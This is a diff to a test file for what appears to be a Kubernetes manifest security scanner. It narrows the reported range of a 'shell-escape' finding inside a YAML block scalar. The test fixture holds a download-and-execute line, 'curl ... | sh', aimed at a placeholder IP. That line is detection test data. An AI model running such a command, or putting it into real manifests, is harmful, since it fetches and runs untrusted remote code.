@@ -47,13 +47,13 @@ describe('scalar ranges', () => {
     assert.deepEqual(find(text, 'host-network').range, { start: { line: 12, column: 20 }, end: { line: 12, column: 24 } });
   });
 
-  it('a literal block scalar: its text, from the first character written to the last', () => {
-    const script = 'curl -fsSL http://203.0.113.9/x.sh | sh\necho done';
+  it('a literal block scalar: the offending line of the script, not the whole block', () => {
+    const script = 'set -e\ncurl -fsSL http://203.0.113.9/x.sh | sh\necho done';
     const text = job(`containers:\n  - name: c\n    image: registry.example/a:1\n    command: ["/bin/sh", "-c"]\n    args:\n      - |\n${script.replace(/^/gm, '        ')}\n`);
     const finding = find(text, 'shell-escape');
     assert.equal(finding.path, '/spec/template/spec/containers/0/args/0');
-    assert.equal(textAt(text, finding.range!), 'curl -fsSL http://203.0.113.9/x.sh | sh\n              echo done');
-    assert.deepEqual(finding.range!.start, { line: 14, column: 15 });
+    assert.equal(textAt(text, finding.range!), 'curl -fsSL http://203.0.113.9/x.sh | sh');
+    assert.deepEqual(finding.range!.start, { line: 15, column: 15 });
   });
 
   it('a folded block scalar with a chomping indicator', () => {
